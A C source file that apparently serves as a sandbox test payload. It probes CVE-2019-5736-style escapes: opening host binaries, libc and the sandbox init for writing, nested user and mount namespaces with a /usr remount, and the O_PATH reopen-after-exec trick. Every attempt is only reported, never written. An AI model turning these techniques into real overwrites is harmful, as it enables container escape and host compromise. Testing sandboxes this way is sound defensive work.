/* Hostile payload (filesystem): the CVE-2019-5736 class. Overwrite the binary that is running
 * (/proc/self/exe), the ELF interpreter, libc, the shell and the Python interpreter (host files the
 * sandbox executes, bind-mounted from the host), and the sandbox init's binary (/proc/1/exe, which
 * is sandboxd itself on the host). Each directly (O_WRONLY, O_RDWR, O_TRUNC), then as in the CVE:
 * from a nested user + mount namespace after remounting /usr read-write, and last as in the CVE:
 * an O_PATH descriptor taken while the file is in use, reopened for writing through
 * /proc/self/fd/N once no process runs the payload binary any more (after an exec). Nothing is
 * actually written: a successful open is reported and closed (the running binary's, which is the
 * sandbox's own file, with what it is: see try_running_binary). One JSON line per attempt on
 * stdout. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <unistd.h>

/* targets[RUNNING_BINARY] is the payload's own binary: opened directly by try_running_binary,
 * not direct, and reopened after the exec as an op of its own. */
enum { RUNNING_BINARY = 0 };
static const char *const targets[] = {
        [RUNNING_BINARY] = "/proc/self/exe",
        "/lib64/ld-linux-x86-64.so.2",
        "/usr/lib/x86_64-linux-gnu/libc.so.6",
        "/bin/sh",
        "/usr/bin/dash",
        "/usr/bin/python3",
        "/usr/bin/python3.11",
        "/proc/1/exe",
};
#define N_TARGETS (sizeof(targets) / sizeof(targets[0]))

/* Each target is opened for writing in these modes. */
static const struct {
        const char *how;
        int flags;
} modes[] = {
        {"O_WRONLY", O_WRONLY},
        {"O_RDWR", O_RDWR},
        {"O_WRONLY|O_TRUNC", O_WRONLY | O_TRUNC},
};
#define N_MODES (sizeof(modes) / sizeof(modes[0]))

static void report(const char *op, const char *target, const char *how, long ret, int err)
{
        if (ret < 0)
                printf("{\"op\": \"%s\", \"target\": \"%s\", \"how\": \"%s\", \"ret\": %ld, "
                       "\"errno\": \"%s\"}\n",
                       op, target, how, ret,
                       strerrorname_np(err) ? strerrorname_np(err) : "UNKNOWN");
        else
                printf("{\"op\": \"%s\", \"target\": \"%s\", \"how\": \"%s\", \"ret\": %ld, "
                       "\"errno\": null}\n",
                       op, target, how, ret);
        fflush(stdout);
}

/* Whether fd is a file of the sandbox's own workspace (the payload's binary is put there). */
static bool in_workspace(int fd)
{
        struct stat file, workspace;
        return fstat(fd, &file) == 0 && stat("/workspace", &workspace) == 0 &&
               file.st_dev == workspace.st_dev;
}

/* The running binary opened for writing: ETXTBSY under Linux. A kernel without that check
 * (gVisor's) opens it: it is then the sandbox's own file in its workspace, reported as
 * "SANDBOX_OWN" when it is (anything else would be a host file), and not opened again with
 * O_TRUNC, which would cut the pages this process still runs from (SIGBUS). */
static void try_running_binary(void)
{
        const char *path = targets[RUNNING_BINARY];
        for (size_t m = 0; m < N_MODES; m++) {
                errno = 0;
                int fd = open(path, modes[m].flags | O_CLOEXEC);
                if (fd < 0) {
                        report("open_running_binary", path, modes[m].how, fd, errno);
                        continue;
                }
                bool own = in_workspace(fd);
                close(fd);
                printf("{\"op\": \"open_running_binary\", \"target\": \"%s\", "
                       "\"how\": \"%s\", \"ret\": %d, \"errno\": %s}\n",
                       path, modes[m].how, fd, own ? "\"SANDBOX_OWN\"" : "null");
                fflush(stdout);
                if (own)
                        return;
        }
}

static void try_open(const char *op, const char *path, const char *label)
{
        for (size_t m = 0; m < N_MODES; m++) {
                errno = 0;
                int fd = open(path, modes[m].flags | O_CLOEXEC);
                report(op, label, modes[m].how, fd, errno);
                if (fd >= 0)
                        close(fd);
        }
}

static void direct(const char *op)
{
        for (size_t i = 0; i < N_TARGETS; i++)
                if (i != RUNNING_BINARY)
                        try_open(op, targets[i], targets[i]);
}

/* The CVE's trick: O_PATH needs no write permission and is allowed while the file runs; once
 * nothing executes it any more, reopen the O_PATH descriptor for writing. This process execs
 * /bin/sh, so that no process runs the payload binary any more, and the shell does the reopening
 * (`: >>` opens for append and writes nothing) and reports like we do. Does not return. */
static _Noreturn void reopen_after_exec(void)
{
        char script[16384];
        size_t len = 0;
        for (size_t i = 0; i < N_TARGETS; i++) {
                int fd = open(targets[i], O_PATH); /* no O_CLOEXEC: the shell inherits it */
                if (fd < 0) {
                        report("open_path", targets[i], "O_PATH", -1, errno);
                        continue;
                }
                /* The payload's own binary lives in the sandbox's workspace: once nothing runs
                 * it, writing it is the sandbox's own business, so it gets an op of its own. */
                const char *op = i == RUNNING_BINARY ? "reopen_own_binary" : "reopen_for_write";
                len += (size_t)snprintf(
                        script + len, sizeof(script) - len,
                        "e=$( (: >> /proc/self/fd/%d) 2>&1 ) && n=null || case \"$e\" in "
                        "*busy*) n='\"ETXTBSY\"';; *Read-only*) n='\"EROFS\"';; "
                        "*denied*) n='\"EACCES\"';; *permitted*) n='\"EPERM\"';; "
                        "*) n='\"UNKNOWN\"';; esac; [ \"$n\" = null ] && r=0 || r=-1; "
                        "echo '{\"op\": \"%s\", \"target\": \"%s\", \"how\": "
                        "\"/proc/self/fd append after exec\", \"ret\": '$r', \"errno\": '$n'}'\n",
                        fd, op, targets[i]);
        }
        fflush(stdout);
        execl("/bin/sh", "sh", "-c", script, (char *)NULL);
        report("exec", "/bin/sh", "", -1, errno);
        exit(1);
}

int main(void)
{
        try_running_binary();
        direct("open_for_write");
        /* The route to remounting the runtime read-write: a nested user + mount namespace. */
        errno = 0;
        long r = unshare(CLONE_NEWUSER | CLONE_NEWNS);
        report("unshare", "CLONE_NEWUSER|CLONE_NEWNS", "", r, errno);
        if (r == 0) {
                errno = 0;
                r = mount(NULL, "/usr", NULL, MS_REMOUNT | MS_BIND, NULL);
                report("nested_remount", "/usr", "MS_REMOUNT|MS_BIND", r, errno);
                direct("nested_open_for_write");
        }
        reopen_after_exec();
}
